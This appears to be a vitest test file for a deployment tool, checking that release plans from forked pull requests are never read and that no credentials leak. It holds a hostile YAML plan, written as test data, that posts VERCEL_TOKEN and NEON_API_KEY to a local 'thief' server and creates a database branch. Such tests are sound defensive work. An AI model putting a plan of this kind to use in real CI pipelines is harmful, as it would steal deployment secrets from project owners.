import { execFile } from 'node:child_process';
import { rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it, type TestContext } from 'vitest';
import { checkout } from './checkout.ts';
import type { Event } from './events.ts';
import type { Outcome } from './runner.ts';
import { openShop, type Shop } from './shop.ts';

const run = promisify(execFile);
const fork = 'mallory/shop';

/** A server that takes whatever is sent to it. */
async function openThief({ onTestFinished }: TestContext): Promise<{ readonly url: string; readonly taken: string[] }> {
  const taken: string[] = [];
  const server = createServer((message, answer) => {
    taken.push(`${message.method} ${message.url} ${JSON.stringify(message.headers)}`);
    answer.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('the thief has no port');
  return { url: `http://127.0.0.1:${address.port}`, taken };
}

/** It would send every credential of the job away, and have a new database branch made. */
const hostile = (url: string): string => `version: 1
providers:
  http:
    thief: { base_url: "${url}", auth: { bearer_env: VERCEL_TOKEN } }
changes:
  - { id: theft, adapter: http, op: action, api: thief, trigger: { now: "\${ctx.git.sha}" }, request: { method: POST, url: "${url}/take", headers: { X-Neon: { secret: env://NEON_API_KEY } } } }
  - { id: database, adapter: neon, op: branch, project_id: quiet-river-12345678, name: "mine-\${ctx.scope}" }
`;

/** The checkout of a job, with a plan that nobody can open without waiting for ever. */
async function checkoutWithTrap(context: TestContext, shop: Shop, event: Event): Promise<string> {
  const workspace = await checkout(context, { place: shop.place, event, token: shop.token });
  const plan = join(workspace, 'release.plan.yaml');
  await rm(plan, { force: true });
  await run('mkfifo', [plan]);
  return workspace;
}

describe.concurrent("a fork's pull request gets nothing", () => {
  it.for<readonly [what: string, from: string | null, event: 'opened' | 'synchronize' | 'closed' | 'deployed']>([
    ['when it is opened', fork, 'opened'],
    ['when it is pushed to', fork, 'synchronize'],
    ['when it is closed', fork, 'closed'],
    ['when its preview was deployed, in a job that has every secret', fork, 'deployed'],
    ['when its repository was deleted', null, 'deployed'],
  ])('%s: its plan is not read, and nobody is asked with a credential', async ([, from, what], context) => {
    const shop = await openShop(context);
    const thief = await openThief(context);
    const head = await shop.open(31, hostile(thief.url), { from });
    if (what === 'closed') shop.close(31);
    const event = what === 'deployed' ? shop.deploymentEvent({ sha: head }) : await shop.pullEvent(31, what);
    const workspace = await checkoutWithTrap(context, shop, event);
    const outcome = await shop.run(event, { workspace });
    expect([outcome.code, outcome.isFailed, outcome.outputs.status], outcome.log).toEqual([0, false, 'skipped']);
    expect(outcome.notices.join()).toContain(from ?? 'deleted');
    expect(outcome.notices.join()).toContain('not read');
    expect(outcome.summary).toContain('not read');
    await isUntouched(shop);
    expect(thief.taken).toEqual([]);
    isTellingNothing(shop, outcome);
    // All that was asked is whose commit it is.
    const asked = shop.front.arrivals.map(({ method, path }) => `${method} ${path.split('?')[0]}`);
    expect(asked).toEqual(what === 'deployed' ? [`GET /repos/acme/shop/commits/${head}/pulls`] : []);
  });

  it('not even where its commit is reported and the code host gives no answer: the job fails without reading', async (context) => {
    const shop = await openShop(context);
    const thief = await openThief(context);
    const head = await shop.open(31, hostile(thief.url), { from: fork });
    const event = shop.deploymentEvent({ sha: head });
    const workspace = await checkoutWithTrap(context, shop, event);
    shop.codeHost.faults.times(50, 'GET /repos/{owner}/{repo}/commits/{sha}/pulls', 404, { message: 'Not Found' });
    const outcome = await shop.run(event, { workspace });
    expect(outcome.code, outcome.log).not.toBe(0);
    await isUntouched(shop);
    expect(thief.taken).toEqual([]);
    isTellingNothing(shop, outcome);
  });

  it('and the same commit in a pull request of this repository is its own business', async (context) => {
    const shop = await openShop(context);
    const head = await shop.open(32, ownPlan);
    shop.host.open(31, head, 'feature/32', fork);
    const outcome = await shop.run(shop.deploymentEvent({ sha: head }));
    expect([outcome.code, outcome.outputs.status], outcome.log).toEqual([0, 'complete']);
    expect(shop.added()).toEqual({ 'cloudflare records': ['pr-32.preview.acme.example'] });
    expect([shop.host.comments(31).length, shop.host.comments(32).length]).toEqual([0, 1]);
  });
});

const ownPlan = `version: 1
changes:
  - { id: dns, recipe: cloudflare.dns_cname, zone_id: 5f0c1d2e3b4a59687786a5b4c3d2e1f0, name: "\${ctx.scope}.preview.acme.example", target: cname.vercel-dns.com }
`;

async function isUntouched(shop: Shop): Promise<void> {
  expect(shop.requests()).toBe(0);
  expect(shop.added()).toEqual({});
  expect(await shop.receipts('pr-31')).toBeNull();
  expect(shop.remote.count.pushes).toBe(0);
  expect(shop.host.comments(31)).toEqual([]);
}

function isTellingNothing(shop: Shop, { unmasked, summary, outputs }: Outcome): void {
  const told = [unmasked, summary, JSON.stringify(outputs)].join('\n');
  expect(shop.secrets().filter((secret) => told.includes(secret))).toEqual([]);
}
